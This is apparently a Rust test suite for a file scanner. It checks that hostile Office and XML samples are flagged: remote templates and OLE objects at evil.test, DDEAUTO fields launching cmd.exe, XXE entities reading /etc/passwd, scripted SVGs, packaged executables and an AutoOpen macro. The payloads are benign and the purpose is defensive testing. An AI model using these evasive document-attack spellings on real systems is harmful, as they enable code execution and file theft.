//! Office documents and XML: templates, objects and entities from elsewhere, fields, scripts, packages.

use crate::inspected::inspected;
use airlock_content::verdict::Outcome::{self, Clean, Malicious, Mismatch};
use std::io::{Cursor, Write};
use zip::{ZipWriter, write::SimpleFileOptions};

const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const TYPE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

/// What becomes of a ZIP with this member.
fn member(name: &str, content: &[u8]) -> (Outcome, String) {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file(name, SimpleFileOptions::default()).unwrap();
    writer.write_all(content).unwrap();
    let found = inspected("application/zip", "a.zip", &writer.finish().unwrap().into_inner());
    (found.outcome, found.reason.unwrap_or_default())
}

fn utf_16(text: &str, is_big: bool) -> Vec<u8> {
    let bytes = |unit: u16| if is_big { unit.to_be_bytes() } else { unit.to_le_bytes() };
    text.encode_utf16().flat_map(bytes).collect()
}

fn utf_32(text: &str) -> Vec<u8> {
    text.chars().flat_map(|found| u32::from(found).to_be_bytes()).collect()
}

/// The ways in which any document can be written.
fn encoded(text: &str) -> Vec<Vec<u8>> {
    let declared = format!("<?xml version=\"1.0\"?>{text}");
    vec![
        text.as_bytes().to_vec(),
        declared.clone().into_bytes(),
        format!("\u{feff}\r\n<!-- a --><?b c?>{text}").into_bytes(),
        format!("<?xml version='1.0' encoding='Shift_JIS'?>{text}").into_bytes(),
        utf_16(&format!("\u{feff}{declared}"), false),
        utf_16(&format!("\u{feff}{declared}"), true),
        utf_16(&declared, false),
        utf_32(&declared),
    ]
}

#[track_caller]
fn all_are(name: &str, spellings: &[String], outcome: Outcome, words: &str) {
    for text in spellings {
        for bytes in encoded(text) {
            let (found, reason) = member(name, &bytes);
            assert!(found == outcome && reason.contains(words), "{text}\n{bytes:?}\n{found:?} {reason}");
        }
    }
}

#[track_caller]
fn none_is(name: &str, texts: &[String]) {
    all_are(name, texts, Clean, "");
}

/// A relationship of this type to this address, in all its spellings.
fn relationships(kind: &str, target: &str) -> Vec<String> {
    let one = |element: &str| format!("<Relationships xmlns=\"{RELATIONSHIPS}\">{element}</Relationships>");
    let spelled: String = target.chars().map(|found| format!("&#x{:x};", u32::from(found))).collect();
    vec![
        one(&format!(
            "<Relationship Id=\"a\" Type=\"{TYPE}/{kind}\" Target=\"{target}\" TargetMode=\"External\"/>"
        )),
        one(&format!(
            "<Relationship TargetMode='External' Target = '{target}'\n Type='{TYPE}/{kind}' Id='a'></Relationship>"
        )),
        one(&format!("<Relationship xmlns:x='y' x:Target='b' Target=' {target}\t' Type='{TYPE}/{kind}'/>")),
        one(&format!(
            "<Relationship Type='http://purl.oclc.org/ooxml/officeDocument/relationships/{kind}' Target='{target}'/>"
        )),
        one(&format!("<Relationship Type='{TYPE}/{kind}' Target='{spelled}' TargetMode='&#69;xternal'/>")),
        format!(
            "<r:Relationships xmlns:r='{RELATIONSHIPS}'><r:Relationship Type='{TYPE}/{kind}' Target='{target}'/></r:Relationships>"
        ),
        format!(
            "<!DOCTYPE a [<!ENTITY t '{target}'>]>{}",
            one(&format!("<Relationship Type='{TYPE}/{kind}' Target='&t;'/>"))
        ),
        format!(
            "<!DOCTYPE a [<!ENTITY e '<Relationship Type=\"{TYPE}/{kind}\" Target=\"{target}\"/>'>]>{}",
            one("&e;")
        ),
        format!(
            "<!DOCTYPE a [<!ATTLIST Relationship Target CDATA '{target}'>]>{}",
            one(&format!("<Relationship Type='{TYPE}/{kind}'/>"))
        ),
        one(&format!(
            "<Relationship Type='{TYPE}/hyperlink' Target='https://a.sharepoint.com/x.dotx' TargetMode='External'/>\
             <Relationship Type='{TYPE}/{kind}' Target='{target}' TargetMode='External'/>"
        )),
    ]
}

#[test]
fn a_template_from_elsewhere_is_found() {
    for target in ["http://evil.test/a.dotm", "\\\\evil.test\\a\\a.dotm", "file://evil.test/a.dotm"] {
        let texts = relationships("attachedTemplate", target);
        all_are("word/_rels/settings.xml.rels", &texts, Mismatch, "fetched from elsewhere");
    }
    for target in
        ["file:///C:\\Users\\ada\\Letter.dotx", "Letter.dotx", "https://a.sharepoint.com/sites/x/Letter.dotx"]
    {
        none_is("word/_rels/settings.xml.rels", &relationships("attachedTemplate", target)[..2]);
    }
}

#[test]
fn an_object_that_runs_what_it_fetches_is_malicious() {
    for target in ["mhtml:http://evil.test/a.html!x-usc:http://evil.test/a.html", "https://evil.test/a.html!"]
    {
        all_are("word/_rels/a.rels", &relationships("oleObject", target), Malicious, "office_remote_object");
    }
    let fetched = relationships("oleObject", "https://example.com/book.xlsx");
    all_are("ppt/_rels/a.rels", &fetched, Mismatch, "fetched from elsewhere");
    for (kind, target) in [
        ("oleObject", "https://a-my.sharepoint.com/personal/ada/Book1.xlsx"),
        ("oleObject", "file:///C:\\Reports\\Q3.xlsx"),
        ("hyperlink", "https://example.com/a.html"),
        ("image", "https://example.com/logo.png"),
    ] {
        none_is("ppt/_rels/a.rels", &relationships(kind, target)[..2]);
    }
}

#[test]
fn a_field_that_starts_a_program_is_malicious() {
    let document =
        |runs: &str| format!("<w:document xmlns:w='{WORD}'><w:body><w:p>{runs}</w:p></w:body></w:document>");
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>");
    let text = |text: &str| format!("<w:r><w:instrText xml:space='preserve'>{text}</w:instrText></w:r>");
    let field =
        |inner: &str| document(&[mark("begin"), inner.to_owned(), mark("separate"), mark("end")].concat());
    let command = "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"";
    let quote = [mark("begin"), text(" QUOTE 99 109 100 "), mark("separate"), mark("end")].concat();
    let reference = [mark("begin"), text(" REF a "), mark("end")].concat();
    let texts = [
        field(&text(&format!(" DDEAUTO {command} "))),
        field(&[text(" DD"), text("EAUTO "), text(command)].concat()),
        field(&[text(" D"), "</w:p><w:p>".to_owned(), text(&format!("DE {command}"))].concat()),
        field(&text(&format!(" &#68;DE<!-- a -->AUTO {command}"))),
        field(&text(&format!("<![CDATA[ DDE ]]>{command}"))),
        field(&[text(" DDE "), quote, text(" \"/c calc\"")].concat()),
        field(&[text(" DDEAUTO "), reference, text(" \"/c calc\"")].concat()),
        document("<w:fldSimple w:instr=' ddeauto \"cmd\" \"/c calc\"'/>"),
        document(&text("dde powershell x")),
        field(&text(" DDE cmd x ")).replace("w:", "q:").replace(":w=", ":q="),
        field(&text(" DDE cmd x ")).replace(WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main"),
        "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>\
         <ddeLink ddeTopic='/c calc' ddeService='CMD'/></externalLink>"
            .to_owned(),
        "<t:dde xmlns:t='urn:oasis:names:tc:opendocument:xmlns:text:1.0' xmlns:o='urn:oasis:names:tc:opendocument:xmlns:office:1.0'>\
         <o:dde-source o:dde-topic='/c calc' o:dde-application='cmd'/></t:dde>"
            .to_owned(),
    ];
    all_are("word/document.xml", &texts, Malicious, "office_dde_field");
    let harmless = [
        document("<w:r><w:t>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:t></w:r>"),
        field(&text(" HYPERLINK \"https://example.com/DDEAUTO cmd\" ")),
        field(&text(" DDE Excel \"C:\\\\Budget.xls\" \"Sheet1!R1C1\" ")),
        document("<!-- <w:fldSimple w:instr='DDE cmd x'/> -->"),
        "<document><instrText> DDE cmd x </instrText></document>".to_owned(),
        "<a title='DDEAUTO cmd.exe'/>".to_owned(),
    ];
    none_is("word/document.xml", &harmless);
}

#[test]
fn an_entity_from_elsewhere_is_malicious() {
    let texts = [
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM\n\"http://evil.test/a\">]><a/>",
        "<!DOCTYPE a [<!ENTITY x PUBLIC 'b' '/etc/passwd'>]><a/>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM '../../secret'> %x;]><a/>",
        "<!DOCTYPE a SYSTEM 'a.dtd' [<!-- ]> --><!ENTITY x SYSTEM 'php://filter/a'>]><a/>",
        "<!DOCTYPE a [<!ELEMENT a ANY><!ENTITY b ']>'><!ENTITY x SYSTEM '\\\\evil.test\\a'>]><a/>",
        "<!DOCTYPE a [<!ENTITY % p \"<!ENTITY x SYSTEM 'file:///etc/passwd'>\"> %p;]><a/>",
        "<!DOCTYPE a [<!ENTITY % p '&#60;!ENTITY &#37; x SYSTEM \"ftp://evil.test/\">'> %p;]><a/>",
        "<!DOCTYPE a [<!ENTITY % s 'SYSTEM'><!ENTITY % p '<!ENTITY x %s; \"file:///a\">'> %p;]><a/>",
    ]
    .map(str::to_owned);
    all_are("a.xml", &texts, Malicious, "xml_external_entity");
    let harmless = [
        "<a><![CDATA[<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>]]></a>",
        "<!DOCTYPE a [<!-- <!ENTITY x SYSTEM 'file:///etc/passwd'> -->]><a/>",
        "<!DOCTYPE a [<!ENTITY x \"SYSTEM 'file:///etc/passwd'\">]><a>&x;</a>",
        "<!DOCTYPE book PUBLIC 'p' 'http://example.com/a.dtd' [<!ENTITY one SYSTEM 'one.xml'>]><book>&one;</book>",
        "<!DOCTYPE a [<!ENTITY % n PUBLIC 'p' 'http://www.w3.org/2003/entities/iso9573-2003/isonum.ent'>]><a/>",
        "<a>&lt;!ENTITY x SYSTEM 'file:///etc/passwd'></a>",
    ]
    .map(str::to_owned);
    none_is("a.xml", &harmless);
}

#[test]
fn a_script_in_a_picture_is_policy() {
    let picture = |inner: &str| format!("<svg xmlns='http://www.w3.org/2000/svg'>{inner}</svg>");
    let texts = [
        picture("<a onclick='x()'/>"),
        picture("<a OnLoad='x()'/>"),
        picture("<a href=' java\nscript:x()'/>"),
        picture("<a xmlns:l='http://www.w3.org/1999/xlink' l:href='JavaScript&#58;x()'/>"),
        picture("<set attributeName='onload' to='x()'/>"),
        picture("<animate attributeName='href' values='a;javascript:x()'/>"),
        picture("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='a'/></foreignObject>"),
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'x()'>]><svg xmlns='http://www.w3.org/2000/svg'/>".to_owned(),
        "<!DOCTYPE a [<!ENTITY n 'http://www.w3.org/2000/svg'>]><s:svg xmlns:s='&n;'><s:a onclick='x'/></s:svg>".to_owned(),
        "<a><b xmlns='http://www.w3.org/1999/xhtml' onclick='x()'/></a>".to_owned(),
    ];
    for bytes in texts.iter().flat_map(|text| encoded(text)) {
        // A rule about the spelling of pictures may match as well.
        let (found, reason) = member("a.xml", &bytes);
        let is_policy =
            found == Mismatch && reason.contains("a script that runs when the document is opened");
        assert!(is_policy || found == Malicious && reason.contains("svg"), "{bytes:?} {found:?} {reason}");
    }
    let harmless = [
        picture("<title>an onclick and javascript:x()</title>"),
        picture("<a href='https://example.com/javascript:x'/>"),
        picture("<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>text</p></foreignObject>"),
        "<play><scene onclick='x()'>Act one</scene></play>".to_owned(),
    ];
    none_is("a.xml", &harmless);
}

/// A compound file with this stream, in sectors of 512 bytes or of 4,096.
fn compound(version: cfb::Version, path: &str, content: &[u8]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create_with_version(version, Cursor::new(Vec::new())).unwrap();
    if let Some((folder, _)) = path.rsplit_once('/') {
        file.create_storage_all(folder).unwrap();
    }
    file.create_stream(path).unwrap().write_all(content).unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// What Packager writes.
fn packaged(label: &str, path: &str, place: &str, content: &[u8]) -> Vec<u8> {
    let mut inner = b"\x02\0".to_vec();
    for text in [label, path] {
        inner.extend([text.as_bytes(), b"\0"].concat());
    }
    inner.extend([0, 0, 3, 0]);
    inner.extend(u32::try_from(place.len() + 1).unwrap().to_le_bytes());
    inner.extend([place.as_bytes(), b"\0"].concat());
    inner.extend(u32::try_from(content.len()).unwrap().to_le_bytes());
    inner.extend(content);
    [&u32::try_from(inner.len()).unwrap().to_le_bytes()[..], &inner].concat()
}

#[test]
fn a_packaged_program_is_policy_wherever_it_lies() {
    let script = b"x";
    let folders = ["/\u{1}Ole10Native", "/ObjectPool/_1/\u{1}Ole10Native", "/MBD0001/\u{1}OLE10NATIVE"];
    let names = [
        ("a.exe", "a.exe", ""),
        ("a.txt", "C:\\b\\a.hta", ""),
        ("a.txt", "a.txt", "C:\\Temp\\a.lnk"),
        ("a.vbs", "", ""),
    ];
    for version in [cfb::Version::V3, cfb::Version::V4] {
        for folder in folders {
            for (label, path, place) in names {
                // In the mini stream, and in sectors of its own.
                for content in [script.to_vec(), vec![b'x'; 9000]] {
                    let bytes = compound(version, folder, &packaged(label, path, place, &content));
                    let (found, reason) = member("word/embeddings/a.bin", &bytes);
                    assert!(
                        found == Mismatch && reason.contains("not taken here"),
                        "{label} {path} {place}: {reason}"
                    );
                }
            }
            let bytes = compound(
                version,
                folder,
                &packaged("a.txt", "C:\\b\\a.txt", "C:\\Temp\\a.txt", b"setup.exe"),
            );
            assert_eq!(member("word/embeddings/a.bin", &bytes).0, Clean);
        }
        for path in ["/VBA/dir", "/Macros/VBA/dir", "/_VBA_PROJECT_CUR/VBA/DIR"] {
            let (found, reason) = member("xl/a.bin", &compound(version, path, b"x"));
            assert!(found == Mismatch && reason.contains("with macros"), "{path}: {reason}");
        }
    }
}

#[test]
fn the_source_of_a_macro_is_read_however_it_is_packed() {
    let source =
        b"Attribute VB_Name = \"A\"\nSub AutoOpen()\nCreateObject(\"WScript.Shell\").Run \"calc\"\nEnd Sub\n";
    let header = |flags: u16, chunk: &[u8]| {
        [&(u16::try_from(chunk.len() - 1).unwrap() | flags).to_le_bytes()[..], chunk].concat()
    };
    let raw = |content: &[u8]| header(0x3000, content);
    let literal = |content: &[u8]| {
        header(0xb000, &content.chunks(8).flat_map(|eight| [&b"\0"[..], eight].concat()).collect::<Vec<u8>>())
    };
    let record = |kind: u16, data: &[u8]| {
        [&kind.to_le_bytes()[..], &u32::try_from(data.len()).unwrap().to_le_bytes(), data].concat()
    };
    let (first, second) = source.split_at(30);
    let repeated = header(0xb000, b"\x02 \xff\x0f");
    for packed in [
        raw(source),
        literal(source),
        [raw(first), raw(second)].concat(),
        [literal(first), raw(second)].concat(),
        [literal(first), literal(second)].concat(),
        [raw(first), literal(second)].concat(),
        source.chunks(7).flat_map(raw).collect(),
        [raw(source), repeated].concat(),
    ] {
        for before in [0, 700] {
            let dir =
                [record(0x32, b"A\0"), record(0x31, &u32::try_from(before).unwrap().to_le_bytes())].concat();
            let bytes =
                compound(cfb::Version::V3, "/Macros/VBA/dir", &[b"\x01", &literal(&dir)[..]].concat());
            let mut file = cfb::CompoundFile::open(Cursor::new(bytes)).unwrap();
            let module = [&vec![b'x'; before][..], b"\x01", &packed].concat();
            file.create_stream("/Macros/VBA/A").unwrap().write_all(&module).unwrap();
            file.flush().unwrap();
            let (found, reason) = member("a.doc", &file.into_inner().into_inner());
            assert!(
                found == Malicious && reason.contains("ole_macro_that_runs_by_itself"),
                "{packed:?}: {reason}"
            );
        }
    }
}
